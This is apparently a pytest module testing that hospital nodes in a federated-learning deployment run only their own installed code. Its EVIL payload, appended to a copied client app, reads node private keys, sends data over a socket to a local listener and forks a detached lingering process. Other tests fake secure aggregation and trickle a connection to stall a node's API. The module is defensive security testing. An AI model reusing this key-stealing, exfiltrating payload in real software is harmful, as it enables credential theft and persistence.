"""A hospital runs only its own installed fedseg: attacked through real app
bundles on a real TLS deployment on 127.0.0.1 (SuperLink, SuperNodes in
process isolation, the site workers as their executors).

Hospital a's policy requires secure aggregation; hospital b has none.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from common.data.synthetic import write_federation
from common.processes import base_env
from server.runs import read_metrics
from server.simulation import APP_DIR
from tests.deployment.conftest import audited_federation
from tests.federation.conftest import processes_matching

# A minute and more each (a deployment's runs): in the slow set, which .ci/run also runs.
pytestmark = [pytest.mark.federation, pytest.mark.slow]

ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="the node's users and file owners "
                               "are set only when fedseg node starts as root; this is not root")


@pytest.fixture(scope="module")
def federation(tmp_path_factory):
    work = tmp_path_factory.mktemp("trust")
    sites = write_federation(work / "data", 2, n_train=3, n_test=2, seed=3)
    with audited_federation(work, sites, policies={
            "hospital-a": "require-secure-aggregation = true\n"}) as fed:
        yield fed


def all_online(federation, limit: float = 120) -> None:
    """Wait until both hospitals' nodes are online at the SuperLink (a run of
    min-nodes 1 would otherwise start with whichever came first)."""
    from server.deployment import hospitals

    deadline = time.monotonic() + limit
    while [h["status"] for h in hospitals(federation.state)] != ["online", "online"]:
        assert time.monotonic() < deadline, hospitals(federation.state)
        time.sleep(1)


def site_state(federation, name: str) -> Path:
    return next(federation.work.glob(f"site-{name}-*"))


def copy_app(federation, folder: str) -> Path:
    """A copy of the app (as a coordinator would modify it), owned by root."""
    app = federation.work / folder
    shutil.copytree(APP_DIR, app, ignore=shutil.ignore_patterns(
        "__pycache__", ".venv", ".fedseg", "runs", "tests", "docs", "deploy", ".git", "*.egg-info"))
    return app


def submit(federation, app: Path, run_name: str, config: str, timeout: float = 400
           ) -> subprocess.CompletedProcess:
    return subprocess.run(
        ["flwr", "run", str(app), "fedseg", "--stream", "--run-config",
         f'run-name="{run_name}" {config}'],
        capture_output=True, text=True, timeout=timeout, cwd=app,
        env=base_env({"FLWR_HOME": str(federation.state.flwr_home)}))


def server_received(federation) -> dict[str, bytes]:
    """Message id -> bytes of every reply the server received (its audit)."""
    from flwr.common.serde import message_from_proto
    from flwr.proto.message_pb2 import Message as ProtoMessage

    out = {}
    for path in sorted((federation.work / "audit").glob("*.bin")):
        proto = ProtoMessage()
        proto.ParseFromString(path.read_bytes())
        out[message_from_proto(proto).metadata.message_id] = path.read_bytes()
    return out


def test_a_secure_run_is_audited_message_by_message_as_it_left(federation):
    """Every message a hospital sent (each SecAgg+ stage its own line) is in
    its audit with the id the server received it under."""
    summary = federation.run("secure", {"num-rounds": 1, "secure-aggregation": True},
                             timeout=400)
    rows = read_metrics(federation.state.runs / "secure")
    assert rows[0]["aggregated"] and set(rows[0]["train_loss_sites"]) == {"hospital-a",
                                                                           "hospital-b"}
    assert summary["final"]["sites"]
    received = server_received(federation)
    for name in ("hospital-a", "hospital-b"):
        lines = [json.loads(line) for line in
                 (site_state(federation, name) / "audit" / "audit.jsonl").read_text()
                 .splitlines()]
        kinds = [e["kind"] for e in lines if e["outcome"] == "sent"]
        assert kinds == ["query",  # the fingerprint at the run's start (harmonise)
                         "train/secagg:setup", "train/secagg:share_keys",
                         "train/secagg:collect_masked_vectors", "train/secagg:unmask",
                         "evaluate"], kinds
        for e in lines:
            assert e["message_id"] in received, (name, e["kind"])
            assert e["arrays"] == 0  # masked vectors travel as SecAgg+'s own records
        masked = next(e for e in lines if e["kind"].endswith("collect_masked_vectors"))
        assert "masked_params" in json.dumps(masked["records"])
    out = subprocess.run([sys.executable, "-m", "server.cli", "node", "audit", "--state",
                          str(site_state(federation, "hospital-a"))], capture_output=True,
                         text=True, timeout=120, cwd=APP_DIR,
                         env=base_env({"COLUMNS": "250"}))
    assert out.returncode == 0, out.stderr
    assert out.stdout.count("train/secagg:") == 4 and "collect_masked_vectors" in out.stdout


EVIL = '''
# --- the coordinator's additions: run at import, then in every handler ---------
def _evil(tag: str) -> None:
    import os, pathlib, socket, subprocess, sys
    mark = pathlib.Path({mark!r})
    try:
        (mark / f"ran-{{tag}}-{{os.getpid()}}").write_text(tag)
    except OSError:
        pass
    for key in pathlib.Path({work!r}).glob("site-*/supernode/*.key"):
        try:
            (mark / f"key-{{key.parent.parent.name}}").write_bytes(key.read_bytes())
        except OSError:
            pass
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
            s.sendall(b"exfil" * 1400)
    except OSError:
        pass
    if os.fork() == 0:  # a process of its own, past the run and the node
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)",
                                      {needle!r}])
        os._exit(0)


_evil("import")
_honest_train, _honest_evaluate = train_handler, evaluate_handler


@app.lifespan()
def _life(context):
    _evil("lifespan")
    yield
'''


def test_a_modified_app_runs_none_of_its_code_at_a_hospital(federation, tmp_path):
    """The coordinator submits a copy of the app whose ClientApp, at import and
    on start, reads the node keys, opens a socket to a listener of its own and
    leaves a process behind. It reaches the hospitals, and none of it runs:
    they answer the run with their own installed fedseg."""
    mark = tmp_path / "marks"
    mark.mkdir()
    os.chmod(mark, 0o1777)
    os.chmod(tmp_path, 0o755)
    needle = f"fedseg-evil-{uuid.uuid4().hex}"
    got: list[bytes] = []
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    stop = threading.Event()

    def listen() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            with conn:
                got.append(conn.recv(65536))

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    app = copy_app(federation, "evil")
    client_app = app / "client" / "app.py"
    client_app.write_text(client_app.read_text() + EVIL.format(
        mark=str(mark), work=str(federation.work), port=listener.getsockname()[1],
        needle=needle))
    try:
        done = submit(federation, app, "evil", "num-rounds=1 secure-aggregation=true")
    finally:
        time.sleep(1)
        stop.set()
        thread.join(timeout=5)
        listener.close()
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    rows = read_metrics(federation.state.runs / "evil")
    # both hospitals took part, through their own code (a's policy: SecAgg+ on)
    assert rows and set(rows[0]["train_loss_sites"]) == {"hospital-a", "hospital-b"}
    assert list(mark.iterdir()) == [] and got == []
    assert not [p for p, c in processes_matching(needle).items()]
    for name in ("hospital-a", "hospital-b"):
        log = (federation.work / f"node-{name}.out").read_text()
        assert "_evil" not in log


def forced_plain(app: Path) -> None:
    """The ServerApp of ``app`` runs plain FedAvg whatever the run says."""
    factory = app / "server" / "strategies" / "factory.py"
    text = factory.read_text()
    assert "    if settings.secure_aggregation:\n" in text
    factory.write_text(text.replace("    if settings.secure_aggregation:\n",
                                    "    if False:  # claims SecAgg+, runs plain\n", 1))


def test_a_policy_requiring_secagg_refuses_plain_runs_and_runs_that_only_claim_it(
        federation):
    all_online(federation)
    plain = federation.run("plain", {"num-rounds": 1, "min-nodes": 1}, timeout=400)
    rows = read_metrics(federation.state.runs / "plain")
    assert rows[0]["trained"] == ["hospital-b"]
    assert [f for f in rows[0]["failures"] if "hospital-a" in f] == [
        f"{kind} at hospital-a: refused by the site's policy: secure aggregation is required"
        for kind in ("train", "evaluate")]
    assert plain["problems"]
    app = copy_app(federation, "claims")
    forced_plain(app)
    done = submit(federation, app, "claims",
                  "num-rounds=1 min-nodes=1 secure-aggregation=true")
    rows = read_metrics(federation.state.runs / "claims")
    assert rows, done.stdout[-2000:] + done.stderr[-2000:]
    # a's policy refuses; b, whose policy is silent, takes the run's word that it is a
    # SecAgg+ run and so fails closed too: nothing unmasked from either
    assert rows[0]["trained"] == [] and not rows[0]["aggregated"]
    for name in ("hospital-a", "hospital-b"):
        failure = next(f for f in rows[0]["failures"] if f.startswith(f"train at {name}"))
        assert "no SecAgg+ stage" in failure
    audit = [json.loads(line) for line in
             (site_state(federation, "hospital-a") / "audit" / "audit.jsonl").read_text()
             .splitlines()]
    trains = [e for e in audit if e["kind"] == "train"]
    assert trains and all(e["outcome"] == "refused" and e["arrays"] == 0 for e in trains)


@ROOT_ONLY
def test_the_node_key_is_the_supernodes_alone(federation):
    """Only the SuperNode's user owns and may open the node's private key, and
    the SuperNode is the only process of the node running as that user."""
    run = pwd.getpwnam("fedseg-run")
    for name in ("hospital-a", "hospital-b"):
        key = site_state(federation, name) / "supernode" / "node.key"
        st = key.stat()
        assert (st.st_uid, st.st_mode & 0o777) == (run.pw_uid, 0o600)
        assert (key.parent.stat().st_mode & 0o777) == 0o700
        tried = subprocess.run([sys.executable, "-c", f"open({str(key)!r}, 'rb')"],
                               user="fedseg-data", group="fedseg-data", extra_groups=[],
                               capture_output=True, text=True, timeout=60, cwd="/")
        assert tried.returncode != 0 and "PermissionError" in tried.stderr
    as_run_user = []
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            uid = int(next(line for line in status.read_text().splitlines()
                           if line.startswith("Uid:")).split()[1])
            cmdline = (status.parent / "cmdline").read_bytes().replace(b"\0", b" ")
        except (OSError, StopIteration):
            continue
        if uid == run.pw_uid:
            as_run_user.append(cmdline.decode(errors="replace"))
    assert len(as_run_user) == 2 and all("flower-supernode" in c for c in as_run_user), \
        as_run_user


def test_a_slow_local_client_or_another_account_cannot_claim_or_stall_the_node(
        federation):
    """A local process holds a connection to a node's Runtime API open, sending
    a byte now and then, and asks it for work without the secret: it gets
    nothing, and a run goes through meanwhile."""
    import httpx
    from flwr.proto.runtime_pb2 import AcquireTaskRequest
    from flwr.supercore.runtime import RuntimeHttpClient

    state = site_state(federation, "hospital-b")
    port = int(state.name.rsplit("-", 1)[1])
    stop = threading.Event()

    def trickle() -> None:
        with socket.create_connection(("127.0.0.1", port)) as s:
            s.sendall(b"POST /v1/runtime/acquire-task HTTP/1.1\r\nHost: x\r\n")
            while not stop.wait(2):
                s.sendall(b"X")

    thread = threading.Thread(target=trickle, daemon=True)
    thread.start()
    client = RuntimeHttpClient.from_server_address(f"127.0.0.1:{port}", insecure=True,
                                                   root_certificates=None, interceptors=[])
    try:
        with pytest.raises(Exception) as refused:  # noqa: PT011 - Flower's own error type
            client.AcquireTask(AcquireTaskRequest(supported_task_types=["flwr-clientapp"]))
        assert "authentication" in str(refused.value).lower() or isinstance(
            refused.value, httpx.HTTPStatusError)
        federation.run("while-slow", {"num-rounds": 1, "min-nodes": 1}, timeout=300)
    finally:
        stop.set()
        thread.join(timeout=10)
        client.close()
    rows = read_metrics(federation.state.runs / "while-slow")
    assert "hospital-b" in rows[0]["trained"]
